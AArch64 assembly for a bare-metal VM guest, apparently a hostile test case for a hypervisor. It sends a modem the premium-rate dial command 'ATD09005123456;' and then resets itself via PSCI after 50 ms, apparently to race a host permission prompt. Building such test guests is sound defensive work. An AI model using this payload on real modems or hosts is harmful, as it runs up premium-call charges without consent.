/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * A guest that is nothing but an attack. It says that it is up, waits for a byte on its console, asks the modem for a
 * premium call, leaves the request 50 ms to become a prompt, and restarts itself: PSCI SYSTEM_RESET by HVC
 * (ARM DEN 0022, "SYSTEM_RESET"). PL011 registers: ARM DDI 0183, "Programmer's model".
 */
    .equ CONSOLE, 0x09000000
    .equ MODEM, 0x09040000
    .equ DR, 0x00
    .equ FR, 0x18
    .equ LCRH, 0x2c
    .equ CR, 0x30

    .text
    .global _start
_start:
    ldr x19, =CONSOLE
    ldr x20, =MODEM
    mov w0, #0x70               /* 8 bits, FIFO */
    str w0, [x20, #LCRH]
    str w0, [x19, #LCRH]
    mov w0, #0x301              /* on, both ways */
    str w0, [x20, #CR]
    str w0, [x19, #CR]
    adr x1, up
    mov x2, x19
    bl print
1:  ldr w0, [x19, #FR]          /* RXFE: nothing typed yet */
    tbnz w0, #4, 1b
    ldr w0, [x19, #DR]
    adr x1, dial
    mov x2, x20
    bl print
    mrs x3, cntfrq_el0
    mov x4, #20
    udiv x3, x3, x4             /* 50 ms */
    mrs x4, cntvct_el0
    add x4, x4, x3
2:  mrs x3, cntvct_el0
    cmp x3, x4
    b.lo 2b
    ldr w0, =0x84000009
    hvc #0
3:  wfi
    b 3b

/* In: x1 = text, x2 = UART. Clobbers: x0, x1, x3. */
print:
    ldrb w0, [x1], #1
    cbz w0, 2f
1:  ldr w3, [x2, #FR]           /* TXFF: full */
    tbnz w3, #5, 1b
    str w0, [x2, #DR]
    b print
2:  ret

up:   .asciz "ROBIN-GUEST: up\r\n"
dial: .asciz "ATD09005123456;\r"
    .balign 4
